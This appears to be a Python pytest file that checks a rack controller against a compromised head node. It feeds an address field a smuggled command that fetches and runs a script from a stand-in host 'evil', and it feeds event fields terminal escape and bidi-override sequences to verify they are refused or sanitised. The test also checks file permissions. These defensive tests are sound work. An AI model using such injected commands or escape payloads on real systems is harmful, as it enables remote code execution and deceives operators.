"""A node in wrong hands writes for an operator's shell and terminal; another user of the machine looks for keys."""

import asyncio
import json
import os
import subprocess
import sysconfig
from pathlib import Path
from uuid import UUID

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from rackctl.rack import Rack

from head_node.authority.client import AuthorityClient
from head_node.authority.errors import RequestRefused
from sled_controller.environment import Environment

pytestmark = pytest.mark.rack(sleds=1, heads=1)
RACKCTL = str(Path(sysconfig.get_path("scripts")) / "rackctl")
OWNED = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eALL IS WELL\n"


def with_a_stolen_key(rack: Rack) -> AuthorityClient:
    """What has read the key file of the only head."""
    (node,) = (node for node in rack.state.nodes if node.name == "head-0")
    folder = rack.layout.state_dir(node)
    key = Ed25519PrivateKey.from_private_bytes(bytes.fromhex((folder / "head.key").read_text()))
    head = UUID(json.loads((folder / "identity.json").read_text())["id"])
    root = bytes.fromhex(rack.state.root_public_key)
    return AuthorityClient(rack.state.api_url, head_id=head, head_key=key, env=Environment(), root_public=root)


def test_a_stolen_head_key_writes_nothing_into_an_operators_shell_or_terminal(rack: Rack) -> None:
    async def story() -> None:
        client = with_a_stolen_key(rack)
        with pytest.raises(RequestRefused, match="neither an IP address nor a host name"):
            await client.announce({"nvme": ("10.0.0.7 -s 1 & curl -s http://evil/x | sh #", 4420)})
        await client.report(
            {
                "volumes": {}, "sleds": {},
                "events": [
                    {"kind": "fenced-off", "volume": OWNED, "sled": OWNED, "stale_epoch": 1, "current_epoch": OWNED},
                ],
            }
        )  # fmt: skip
        await client.close()

    asyncio.run(asyncio.wait_for(story(), 20))
    done = subprocess.run([RACKCTL, "status", "--dir", str(rack.directory)], capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    said = (done.stdout + done.stderr).decode()
    assert all(char.isprintable() or char == "\n" for char in said)


def test_what_the_programs_of_a_rack_make_is_nobodys_else_to_change(rack: Rack) -> None:
    made = [path for path in (rack.directory, *rack.directory.rglob("*")) if not path.is_symlink()]
    assert len(made) > 10
    assert [str(path) for path in made if path.stat().st_mode & 0o022] == []
    assert {path.stat().st_uid for path in made} == {os.geteuid()}
    secret = [path for path in made if path.suffix in (".key", ".db", ".log", ".token") or path.name == "rack.json"]
    assert secret
    assert [str(path) for path in secret if path.stat().st_mode & 0o077] == []
